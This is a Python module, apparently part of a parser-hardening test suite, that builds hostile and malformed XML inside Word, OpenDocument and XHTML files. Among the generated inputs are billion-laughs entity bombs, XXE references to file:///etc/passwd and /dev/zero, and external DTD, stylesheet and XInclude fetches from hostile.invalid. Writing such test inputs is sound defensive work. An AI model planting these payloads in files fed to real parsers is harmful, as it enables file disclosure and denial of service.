"""XML that is hostile or no XML, in every place of a Word, OpenDocument or XHTML file."""

from __future__ import annotations

from collections.abc import Iterator

from hostile_files.model import Input, given
from hostile_files.packages import (
    ODT_PARAGRAPH,
    PARAGRAPH,
    archive,
    document,
    odt_content,
    odt_parts,
    word_parts,
)


def inputs() -> Iterator[Input]:
    """Entities, external references, encodings, nesting and broken markup."""
    for name, (doctype, reference) in _ENTITIES.items():
        paragraph = f"<w:p><w:r><w:t>Told: {reference}</w:t></w:r></w:p>"
        main = document(PARAGRAPH + paragraph, doctype)
        yield given(f"xml-entities/docx-{name}", ".docx", archive(word_parts(main=main)))
        content = odt_content(f"{ODT_PARAGRAPH}<text:p>Told: {reference}</text:p>", doctype)
        yield given(f"xml-entities/odt-{name}", ".odt", archive(odt_parts(content=content)))
        page = f"<?xml version='1.0'?>{doctype}<html><p>Families told us: {reference}</p></html>"
        yield given(f"xml-entities/xhtml-{name}", ".xhtml", page)
    for part in ("[Content_Types].xml", "_rels/.rels", "word/styles.xml"):
        doctype, reference = _ENTITIES["a-thousand-million-laughs"]
        text = str(word_parts()[part])
        at = text.index("?>") + 2
        end = text.rindex("</")
        changed = text[:at] + doctype + text[at:end] + reference + text[end:]
        label = "".join(c for c in part.lower() if c.isalnum())
        parts = word_parts() | {part: changed}
        yield given(f"xml-entities/laughs-in-{label}", ".docx", archive(parts))
    for name, change in _CHANGES.items():
        word, text = document(PARAGRAPH), odt_content(ODT_PARAGRAPH)
        main = change(word, "w:p")
        yield given(f"xml-broken/docx-{name}", ".docx", archive(word_parts(main=main)))
        content = change(text, "text:p")
        yield given(f"xml-broken/odt-{name}", ".odt", archive(odt_parts(content=content)))


def _nested(levels: int) -> str:
    rows = ['<!ENTITY a0 "told ">']
    rows += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels)]
    return f"<!DOCTYPE x [{''.join(rows)}]>"


_ENTITIES = {
    "a-thousand-million-laughs": (_nested(10), "&a9;"),
    "a-thousand-laughs": (_nested(4), "&a3;"),
    "one-long-often": (
        f'<!DOCTYPE x [<!ENTITY a "{"told " * 20_000}">]>',
        "&a;" * 2000,
    ),
    "itself": ('<!DOCTYPE x [<!ENTITY a "&a;">]>', "&a;"),
    "each-other": ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    "a-file": ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
    "a-device": ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///dev/zero">]>', "&a;"),
    "a-page": ('<!DOCTYPE x [<!ENTITY a SYSTEM "http://hostile.invalid/a">]>', "&a;"),
    "a-public-page": (
        '<!DOCTYPE x [<!ENTITY a PUBLIC "-//x" "https://hostile.invalid/a">]>',
        "&a;",
    ),
    "a-parameter": (
        '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://hostile.invalid/a.dtd"> %a;]>',
        "told",
    ),
    "a-type-elsewhere": ('<!DOCTYPE x SYSTEM "http://hostile.invalid/x.dtd">', "told"),
    "a-type-in-a-file": ('<!DOCTYPE x SYSTEM "file:///etc/passwd">', "told"),
    "undeclared": ("", "&nosuch;"),
    "no-character": ("", "&#0;&#xFFFF;&#x110000;&#xD800;"),
    "a-style-sheet": ('<?xml-stylesheet href="http://hostile.invalid/x.xsl"?>', "told"),
    "an-inclusion": (
        "",
        '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="http://hostile.invalid/x.xml"/>',
    ),
}


def _inside(text: str, what: str) -> str:
    """The text with something before its first paragraph."""
    at = text.index("<w:p>") if "<w:p>" in text else text.index("<text:p>")
    return text[:at] + what + text[at:]


_CHANGES = {
    "not-xml": lambda _, __: "Families told us that home was safer.",
    "another-root": lambda _, __: "<html><body>Families told us.</body></html>",
    "cut-in-the-middle": lambda text, _: text[: len(text) * 3 // 4],
    "cut-before-the-end": lambda text, _: text[:-3],
    "two-roots": lambda text, _: text + "<again/>",
    "text-after-the-end": lambda text, _: text + "more",
    "tags-crossed": lambda text, p: _inside(text, f"<{p}><a></{p}></a>"),
    "tag-does-not-end": lambda text, p: _inside(text, f"<{p}"),
    "ampersand": lambda text, _: _inside(text, "fish & chips"),
    "attribute-twice": lambda text, p: _inside(text, f'<{p} a="1" a="2"/>'),
    "attribute-unquoted": lambda text, p: _inside(text, f"<{p} a=1/>"),
    "prefix-unknown": lambda text, _: _inside(text, "<no:such/>"),
    "spaces-many": lambda text, p: _inside(
        text, "".join(f'<{p} xmlns:n{n}="urn:{n}"/>' for n in range(3000))
    ),
    "nested-200": lambda text, p: _inside(text, f"<{p}>" * 200 + f"</{p}>" * 200),
    "nested-3000": lambda text, p: _inside(text, f"<{p}>" * 3000 + f"</{p}>" * 3000),
    "nested-200000": lambda text, p: _inside(text, f"<{p}>" * 200_000 + f"</{p}>" * 200_000),
    "attributes-many": lambda text, p: _inside(
        text, f"<{p} " + " ".join(f'a{n}="{n}"' for n in range(20_000)) + "/>"
    ),
    "attribute-long": lambda text, p: _inside(text, f'<{p} a="{"told " * 500_000}"/>'),
    "name-long": lambda text, _: _inside(text, f"<{'n' * 60_000}/>"),
    "comments-many": lambda text, _: _inside(text, "<!-- told -->" * 20_000),
    "comment-does-not-end": lambda text, _: _inside(text, "<!-- told"),
    "instructions-many": lambda text, _: _inside(text, "<?told us?>" * 20_000),
    "cdata-does-not-end": lambda text, _: _inside(text, "<![CDATA[ told"),
    "utf-16": lambda text, _: text.replace("UTF-8", "UTF-16").encode("utf-16"),
    "utf-16-said-to-be-utf-8": lambda text, _: text.encode("utf-16"),
    "utf-8-said-to-be-utf-16": lambda text, _: text.replace("UTF-8", "UTF-16").encode(),
    "utf-7": lambda text, _: text.replace("UTF-8", "UTF-7").encode("utf-7"),
    "encoding-unknown": lambda text, _: text.replace("UTF-8", "x-no-such"),
    "encoding-a-codec": lambda text, _: text.replace("UTF-8", "rot13"),
    "with-a-mark": lambda text, _: b"\xef\xbb\xbf" + text.encode(),
    "mark-twice": lambda text, _: b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode(),
    "bytes-invalid": lambda text, _: (
        _inside(text, "told").encode().replace(b"told", b"\xff\xc0\x80")
    ),
    "controls": lambda text, _: _inside(text, "\x01\x02\x1b[31m"),
    "noughts": lambda text, _: _inside(text, "\x00\x00"),
    "version-9": lambda text, _: text.replace('version="1.0"', 'version="9.9"'),
    "declaration-late": lambda text, _: "\n\n" + text,
}
